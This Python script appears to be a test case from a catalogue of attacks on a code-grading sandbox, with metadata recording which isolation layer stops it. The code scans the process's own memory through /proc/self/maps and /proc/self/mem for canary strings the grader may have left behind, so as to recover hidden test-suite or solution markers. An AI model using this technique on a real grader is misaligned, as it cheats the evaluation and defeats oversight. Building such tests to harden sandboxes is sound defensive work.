"""Search the own memory through /proc/self/mem for what the grader may have left in it before the fork.

Seen: catalogue 6 (pygpubench submission_proc_mem_bypass.py).
"""

# /// attack
# exercise = "07_deep_and_bidirectional/bidirectional_concat"
# stopped_by = { full = "namespaces", landlock = "Landlock", none = "boundary" }
# ///

found = []
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, rights = line.split()[:2]
        low, high = (int(end, 16) for end in span.split("-"))
        if not rights.startswith("rw") or high - low > 2**28:
            continue
        try:
            memory.seek(low)
            raw = memory.read(high - low)
        except (OSError, OverflowError):
            continue
        place = raw.find(b"canary-" + b"s")  # written apart, so as not to find itself
        while place >= 0:
            found.append(raw[place : place + 50])
            place = raw.find(b"canary-" + b"s", place + 1)
hits = [word for word in found if b"suite-" in word or b"solution-" in word]
print("got:" if hits else "nothing to find", hits)
